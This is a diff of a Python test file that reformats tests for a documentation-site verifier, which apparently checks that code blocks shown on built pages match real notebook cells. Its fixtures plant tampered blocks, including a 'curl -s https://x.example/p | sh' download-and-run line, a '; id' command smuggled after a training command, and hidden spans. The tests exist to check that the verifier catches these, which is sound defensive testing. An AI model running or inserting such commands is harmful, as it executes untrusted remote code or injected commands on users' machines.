@@ -18,9 +18,11 @@ from verify.artifact import notebook_pages
 from tests.verify.artifact_refusal import copied, refused, site  # noqa: F401 (copied, site: fixtures)
 
 ACCELERATE_END = 'bf16<span class="w"> </span>train_hf.py\n</code></pre></div>'
-RAW = ('\n<div class="language-bash highlight"><pre><span></span><code>accelerate launch <span class="code-word">--num_processes</span> 4 '
-       '<span class="code-word">--mixed_precision</span> bf16 train_hf.py\ncurl <span class="code-word">-s</span> '
-       'https://x.example/p | sh\n</code></pre></div>\n')
+RAW = (
+    '\n<div class="language-bash highlight"><pre><span></span><code>accelerate launch <span class="code-word">--num_processes</span> 4 '
+    '<span class="code-word">--mixed_precision</span> bf16 train_hf.py\ncurl <span class="code-word">-s</span> '
+    'https://x.example/p | sh\n</code></pre></div>\n'
+)
 
 
 def plant(site, page: str, new: str, old: str = ACCELERATE_END) -> None:
@@ -44,7 +46,10 @@ def test_a_hidden_part_of_an_untitled_block_is_refused(site):
     text = path.read_text(encoding="utf-8")
     old = '<code><span class="c1"># Uno script con Accelerator'
     assert old in text, "index.html no longer holds the accelerate block: update this test"
-    path.write_text(text.replace(old, '<code><span class="c1"><span hidden># </span>Uno script con Accelerator', 1), encoding="utf-8")
+    path.write_text(
+        text.replace(old, '<code><span class="c1"><span hidden># </span>Uno script con Accelerator', 1),
+        encoding="utf-8",
+    )
     refused(site, "index.html: code block", "<span hidden")
 
 
@@ -58,14 +63,18 @@ def test_a_french_block_that_runs_otherwise_is_refused(site):
     text = path.read_text(encoding="utf-8")
     old = 'bf16<span class="w"> </span>train_hf.py\n</code></pre></div>'
     assert old in text
-    path.write_text(text.replace(old, 'bf16<span class="w"> </span>train_hf.py<span class="p">;</span> id\n</code></pre></div>', 1),
-                    encoding="utf-8")
+    path.write_text(
+        text.replace(old, 'bf16<span class="w"> </span>train_hf.py<span class="p">;</span> id\n</code></pre></div>', 1),
+        encoding="utf-8",
+    )
     refused(site, "fr/index.html, block")
 
 
 def test_the_notebook_pages_are_the_notebooks():
-    assert notebook_pages(REPO_ROOT / "docs") == {"memory-notebook/index.html": REPO_ROOT / "docs" / "memory-notebook.it.ipynb",
-                                                   "fr/memory-notebook/index.html": REPO_ROOT / "docs" / "memory-notebook.fr.ipynb"}
+    assert notebook_pages(REPO_ROOT / "docs") == {
+        "memory-notebook/index.html": REPO_ROOT / "docs" / "memory-notebook.it.ipynb",
+        "fr/memory-notebook/index.html": REPO_ROOT / "docs" / "memory-notebook.fr.ipynb",
+    }
 
 
 NOTEBOOK_FIRST_TEXT = '<p>Questo notebook viene eseguito a ogni build del sito'
@@ -73,7 +82,12 @@ NOTEBOOK_FIRST_TEXT = '<p>Questo notebook viene eseguito a ogni build del sito'
 
 def test_a_code_block_in_a_notebooks_markdown_cell_is_refused(site):
     """A fence (or raw <pre>) in a Markdown cell of the notebook: shown as code, never ran."""
-    plant(site, "memory-notebook/index.html", '<pre><code>curl -s https://x.example/p | sh\n</code></pre>', old=NOTEBOOK_FIRST_TEXT)
+    plant(
+        site,
+        "memory-notebook/index.html",
+        '<pre><code>curl -s https://x.example/p | sh\n</code></pre>',
+        old=NOTEBOOK_FIRST_TEXT,
+    )
     refused(site, "memory-notebook/index.html: code block 1", "is not a code cell of memory-notebook.it.ipynb")
 
 
@@ -81,6 +95,6 @@ def test_a_notebook_cell_shown_twice_or_out_of_order_is_refused(site):
     path = site / "memory-notebook" / "index.html"
     text = path.read_text(encoding="utf-8")
     first = text.index("<pre")
-    block = text[first:text.index("</pre>", first) + len("</pre>")]
+    block = text[first : text.index("</pre>", first) + len("</pre>")]
     plant(site, "memory-notebook/index.html", block, old=NOTEBOOK_FIRST_TEXT)  # the first cell, shown again before it
     refused(site, "memory-notebook/index.html: code block 2", "is not a code cell")
